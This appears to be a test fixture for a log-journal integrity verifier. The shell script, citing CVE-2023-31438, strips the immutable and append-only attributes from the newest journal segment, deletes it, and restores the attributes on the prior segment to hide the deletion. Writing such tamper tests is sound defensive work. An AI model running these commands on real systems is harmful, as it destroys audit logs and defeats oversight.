#!/bin/sh
# Trick:   the newest segment is deleted, with all since the last opening.
# Source:  CVE-2023-31438
# Seen by: verify
# Named:   edited
# shellcheck disable=SC2012 # names of the journal's own
set -eu
cd /var/log/jit/journal
segment=$(ls | tail -n 1)
chattr -i -a "$segment"
rm "$segment"
chattr -i "$(ls | tail -n 1)"
chattr +a "$(ls | tail -n 1)"
# The segment before ends in the beginning of a record, which only the newest one explained.
echo edited "$(echo "${segment%%.*}" | sed 's/^0*//')"
